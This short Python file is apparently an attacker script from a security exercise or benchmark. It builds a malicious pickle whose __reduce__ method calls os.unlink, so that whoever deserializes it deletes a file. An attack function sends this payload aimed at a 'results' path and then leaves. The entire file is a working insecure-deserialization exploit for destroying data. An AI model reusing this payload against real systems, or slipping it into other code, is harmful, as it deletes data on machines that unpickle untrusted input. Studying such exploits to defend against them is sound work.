import os
import pickle


class Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.unlink, (self.path,)


def attack(scene, oracle):
    send(pickle.dumps(Payload(scene["results"])))
    leave()
